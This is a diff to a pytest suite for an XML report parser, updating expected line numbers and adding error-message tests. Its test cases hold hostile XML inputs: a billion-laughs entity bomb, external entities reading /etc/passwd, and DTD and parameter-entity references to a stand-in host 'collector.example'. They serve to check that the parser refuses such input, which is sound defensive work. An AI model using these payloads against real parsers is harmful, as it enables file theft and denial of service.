@@ -98,16 +98,16 @@ def test_cdata_is_text() -> None:
         pytest.param(b"not xml", "line 1", id="not xml"),
         pytest.param(body("</report>"), "line 2", id="cut off"),
         pytest.param(body("</platform>", "</platfrom>"), "line 5", id="crossed tags"),
-        pytest.param(body("words", "&nbsp;"), "line 22", id="undeclared entity"),
-        pytest.param(body("words", "&#0;"), "line 22", id="reference to NUL"),
-        pytest.param(body("words", "&#x1b;"), "line 22", id="reference to a control"),
-        pytest.param(body("words", "\x1b[31m"), "line 22", id="control"),
+        pytest.param(body("words", "&nbsp;"), "line 23", id="undeclared entity"),
+        pytest.param(body("words", "&#0;"), "line 23", id="reference to NUL"),
+        pytest.param(body("words", "&#x1b;"), "line 23", id="reference to a control"),
+        pytest.param(body("words", "\x1b[31m"), "line 23", id="control"),
         pytest.param(body("words", "\x00"), "is NUL", id="NUL"),
         pytest.param(body("<report ", f"<!DOCTYPE report [<!ENTITY l0 'lol'>{BOMB}]>\n<report "), "line 2: a document type", id="billion laughs"),
         pytest.param(body("<report ", '<!DOCTYPE report [<!ENTITY x SYSTEM "file:///etc/passwd">]><report '), "line 2: a document type", id="external entity"),
         pytest.param(body("<report ", '<!DOCTYPE report SYSTEM "http://collector.example/x.dtd">\n<report '), "line 2: a document type", id="external subset"),
         pytest.param(body("<report ", '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://collector.example/p">%p;]><report '), "a document type", id="parameter entity"),
-        pytest.param(body("words", '<!ENTITY x "y">'), "line 22: an entity declaration", id="stray entity"),
+        pytest.param(body("words", '<!ENTITY x "y">'), "line 23: an entity declaration", id="stray entity"),
         pytest.param(REPORT.encode("utf-16"), "UTF-16", id="UTF-16"),
         pytest.param(REPORT.encode("utf-16-le"), "UTF-16", id="UTF-16 little endian"),
         pytest.param(REPORT.encode("utf-16-be"), "UTF-16", id="UTF-16 big endian"),
@@ -118,15 +118,15 @@ def test_cdata_is_text() -> None:
         pytest.param(body().replace(b"words", b"w\xf6rds"), "is not UTF-8", id="Latin-1 unannounced"),
         pytest.param(body().replace(b"words", b"\xed\xa0\x80"), "is not UTF-8", id="surrogate"),
         pytest.param(body().replace(b"words", b"\xc0\xbcx"), "is not UTF-8", id="overlong"),
-        pytest.param(body("words", '<?php echo "x" ?>'), "line 22: a processing instruction", id="processing instruction"),
-        pytest.param(body("words", '<x:include href="file:///etc/passwd"/>'), "line 22", id="undeclared prefix"),
-        pytest.param(body("words", "<a>" * 40 + "</a>" * 40), f"line 22: elements nest deeper than {DEEPEST}", id="deep"),
+        pytest.param(body("words", '<?php echo "x" ?>'), "line 23: a processing instruction", id="processing instruction"),
+        pytest.param(body("words", '<x:include href="file:///etc/passwd"/>'), "line 23", id="undeclared prefix"),
+        pytest.param(body("words", "<a>" * 40 + "</a>" * 40), f"line 23: elements nest deeper than {DEEPEST}", id="deep"),
         pytest.param(body("words", "<a>" * 100_000 + "</a>" * 100_000), "", id="very deep"),
         pytest.param(body("words", "<a/>" * (MOST_ELEMENTS + 1)), f"more than {MOST_ELEMENTS} elements", id="many elements"),
         pytest.param(body("words", "<a/>" * 500_000), f"more than {MOST_ELEMENTS} elements", id="very many elements"),
         pytest.param(body('type="Business"', f'type="{"x" * (LONGEST_ATTRIBUTE + 1)}"'), "line 12: attribute type is longer", id="huge attribute"),
         pytest.param(body('type="Business"', 'type="Home" type="Work"'), "line 12", id="attribute twice"),
-        pytest.param(body() + b"<report/>", "line 25", id="two roots"),
+        pytest.param(body() + b"<report/>", "line 26", id="two roots"),
     ],
 )  # fmt: skip
 def test_a_hostile_or_broken_document_is_refused_unread_at_once(document: bytes, message: str) -> None:
@@ -179,6 +179,8 @@ EVENT = "/report/personOrUserReported/ipCaptureEvent"
         pytest.param(DETAILS.encode(), "line 1: the document is a fileDetails; a report is expected here", id="other document"),
         pytest.param(b"<report/>", "/report, line 1: an element is missing: ", id="nothing in it"),
         pytest.param(b'<report xmlns="urn:example"/>', "a report is expected here", id="root in a namespace"),
+        pytest.param(body("words", "<b>words</b>"), "/report/personOrUserReported/additionalInfo, line 23: ", id="elements in text"),
+        pytest.param(body('verified="true"', 'verificationDate="x"'), "/report/reporter/reportingPerson/phone, line 11: attribute verificationDate: 'x' is not a date and time", id="bad date in an attribute"),
     ],
 )  # fmt: skip
 def test_a_fault_is_told_with_its_element_its_line_and_the_rule(document: bytes, message: str) -> None:
@@ -186,24 +188,36 @@ def test_a_fault_is_told_with_its_element_its_line_and_the_rule(document: bytes,
 
 
 @pytest.mark.parametrize(
-    ("old", "new", "attribute"),
+    ("old", "new", "rule"),
     [
-        ('type="Business"', 'type="Private"', "type"),
-        ('countryCallingCode="+91"', 'countryCallingCode="91"', "countryCallingCode"),
-        ('verified="true"', 'verified="maybe"', "verified"),
+        ('type="Business"', 'type="Private"', "attribute type: 'Private' is not one of 'Home', 'Work'"),
+        (
+            'countryCallingCode="+91"',
+            'countryCallingCode="91"',
+            "attribute countryCallingCode: '91' does not have the form",
+        ),
+        ('verified="true"', 'verified="maybe"', "attribute verified: 'maybe' is not true or false"),
     ],
 )
-def test_a_fault_in_an_attribute_names_the_attribute_and_not_the_text_beside_it(
-    old: str, new: str, attribute: str
+def test_a_fault_in_an_attribute_names_it_and_its_value_and_not_the_text_beside_it(
+    old: str, new: str, rule: str
 ) -> None:
     message = told(body(old, new))
-    assert attribute in message
+    assert rule in message
     assert "9820000000" not in message
     assert "safety@pictogram.example" not in message
 
 
 def test_a_message_shows_hidden_characters_and_is_not_a_way_to_inject_them() -> None:
     assert "⟨U+202E⟩" in told(body(">Upload<", ">\u202edaolpU<"))
+
+
+def test_a_value_that_imitates_a_message_is_quoted_whole() -> None:
+    value = "x', attribute 'type': is not an element of the set {'evil'} atomic type 'xs:date'"
+    quoted = value[:60]
+    message = told(body(">Upload<", f">{value}<"))
+    assert f"ipCaptureEvent/eventName, line 19: {quoted + '…'!r} is not one of 'Login', 'Registration'" in message
+    assert "is not a whole number" in told(body("50112", value))
 
 
 def test_a_long_value_is_cut_in_the_message() -> None:
@@ -244,13 +258,13 @@ def test_file_details_are_read_and_a_report_is_no_file_details() -> None:
 
 
 def refuses_or_reads(document: bytes) -> None:
+    said, tag = "", ""
     try:
-        root = parse_report(document)
-    except (MalformedXmlError, ValidationFailedError) as error:
-        assert str(error)
-        assert "\0" not in str(error)
-    else:
-        assert root.tag == "report"
+        tag = str(parse_report(document).tag)
+    except (MalformedXmlError, ValidationFailedError) as refusal:
+        said = str(refusal)
+    assert tag == "report" or said.strip()
+    assert said.isprintable() or "\N{NO-BREAK SPACE}" in said
 
 
 @given(st.one_of(st.binary(max_size=400), st.binary(max_size=200).map(lambda b: b"<report>" + b)))
